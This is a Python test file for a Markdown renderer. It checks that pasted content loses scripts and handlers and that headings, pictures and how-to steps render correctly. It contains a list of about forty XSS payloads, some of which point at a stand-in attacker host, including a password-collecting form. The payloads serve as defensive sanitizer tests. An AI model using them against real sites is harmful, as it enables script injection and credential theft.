"""Markdown to a page: whatever an editor pastes, no script, event handler, ``javascript:`` address
or inline style survives; headings get anchors; pictures need a description."""

from html.parser import HTMLParser

import pytest

from guidance.rendering import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, as_steps, render

# Payloads from the usual XSS cheat sheets, in raw HTML and in Markdown's own syntax.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" alt="a">',
    "<svg onload=alert(1)><circle r=1></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href=' javascript:alert(1)'>click</a>",
    "<a href='jav&#x09;ascript:alert(1)'>click</a>",
    "<a href='JaVaScRiPt:alert(1)'>click</a>",
    "<a href=vbscript:msgbox(1)>click</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>click</a>",
    "[click](javascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    '[click](https://example.org "title" onmouseover=alert(1))',
    "<p style='background:url(javascript:alert(1))'>styled</p>",
    '<div style="position:fixed;inset:0">cover the page</div>',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<details open ontoggle=alert(1)>",
    "<base href=//evil.example/>",
    "<h2 id=content onclick=alert(1)>Heading</h2>",
    "<p>text<!-- <script>alert(1)</script> --></p>",
    "<img src=`x`onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "```\n<script>alert(1)</script>\n```",
    "<table><td background=javascript:alert(1)>cell</td></table>",
    "<a href=# onclick=alert(1) style=color:red>x</a>",
]
SAFE_SCHEMES = ("http:", "https:", "mailto:", "/", "#")


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def _elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    return parser.elements


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_script_handler_inline_style_or_unsafe_address_reaches_the_page(payload):
    html = render(f"Before.\n\n{payload}\n\nAfter.").html

    for tag, attributes in _elements(html):
        assert tag in ALLOWED_TAGS, html
        for name, value in attributes.items():
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, html
            if name in ("href", "src"):
                assert (value or "").strip().lower().startswith(SAFE_SCHEMES), html
    assert "<script" not in html.lower()
    assert "javascript:" not in html.lower()


def test_the_words_around_a_stripped_tag_stay():
    html = render('Call <span style="color:red">2827 2827</span> <script>alert(1)</script>today.').html

    assert html == "<p>Call 2827 2827 today.</p>"


def test_headings_get_anchors_that_cannot_collide_with_the_pages_own():
    rendered = render("## Main content\n\nText.\n\n### How to opt out\n\n## 如何退出\n\nText.")

    assert '<h2 id="section-main-content">Main content</h2>' in rendered.html
    assert rendered.headings == [
        (2, "section-main-content", "Main content"),
        (3, "section-how-to-opt-out", "How to opt out"),
        (2, "section-如何退出", "如何退出"),
    ]


def test_a_heading_with_markup_characters_is_listed_as_its_words():
    rendered = render('## Q&A: "opt out" & <b>opt in</b>\n\nText.')

    assert rendered.headings[0][2] == 'Q&A: "opt out" & opt in'


def test_two_headings_with_the_same_words_get_different_anchors():
    anchors = [anchor for _, anchor, _ in render("## Step\n\nOne.\n\n## Step\n\nTwo.").headings]

    assert len(set(anchors)) == 2


def test_a_long_document_gets_a_table_of_contents_and_a_short_one_does_not():
    three = render("## One\n\nA.\n\n## Two\n\nB.\n\n### Two and a half\n\n## Three\n\nC.")
    two = render("## One\n\nA.\n\n## Two\n\nB.")

    assert [heading for _, _, heading in three.contents] == ["One", "Two", "Two and a half", "Three"]
    assert two.contents == []


def test_a_picture_attached_by_name_points_at_its_file():
    rendered = render("![The privacy settings screen](settings.png)", file_url=lambda name: f"/files/{name}")

    assert '<img alt="The privacy settings screen" src="/files/settings.png">' in rendered.html
    assert rendered.problems == []


def test_a_link_to_an_attached_pdf_points_at_its_file_and_other_links_are_kept():
    rendered = render(
        "[the framework](framework.pdf) and [our site](https://example.org) and [a section](#section-one)",
        file_url=lambda name: f"/files/{name}" if name == "framework.pdf" else None,
    )

    assert 'href="/files/framework.pdf"' in rendered.html
    assert 'href="https://example.org"' in rendered.html
    assert 'href="#section-one"' in rendered.html


@pytest.mark.parametrize("markdown", ["![](settings.png)", "![  ](settings.png)", '<img src="settings.png">'])
def test_a_picture_without_a_description_is_a_problem_to_put_right(markdown):
    rendered = render(markdown, file_url=lambda name: f"/files/{name}")

    assert rendered.problems == [
        "Every picture needs a description for readers who cannot see it: ![what it shows](file.png)."
    ]


@pytest.mark.parametrize("source", ["missing.png", "https://images.example/photo.png", "//images.example/p.png"])
def test_a_picture_that_is_not_an_attached_file_is_a_problem_and_loads_nothing(source):
    rendered = render(f"![A photo]({source})", file_url=lambda name: None)

    assert "src=" not in rendered.html
    assert rendered.problems == [
        "A picture must be a PNG or JPEG file attached to this publication, named by its file name: A photo"
    ]


def test_how_to_steps_are_the_sections_after_the_introduction():
    html = render("Before you start.\n\n## Open settings\n\nTap Settings.\n\n## Switch it off\n\nTap the switch.").html

    introduction, steps = as_steps(html)

    assert introduction.strip() == "<p>Before you start.</p>"
    assert [step.split(">", 1)[1].split("<", 1)[0] for step in steps] == ["Open settings", "Switch it off"]
    assert "Tap the switch." in steps[1]


def test_how_to_steps_without_an_introduction():
    introduction, steps = as_steps(render("## One\n\nA.\n\n## Two\n\nB.").html)

    assert introduction == ""
    assert len(steps) == 2


def test_a_heading_inside_a_quote_is_part_of_its_step_not_a_step_of_its_own():
    _introduction, steps = as_steps(render("## One\n\n> ## Quoted\n> Words.\n\n## Two\n\nB.").html)

    assert len(steps) == 2
    assert "<blockquote>" in steps[0] and "</blockquote>" in steps[0]
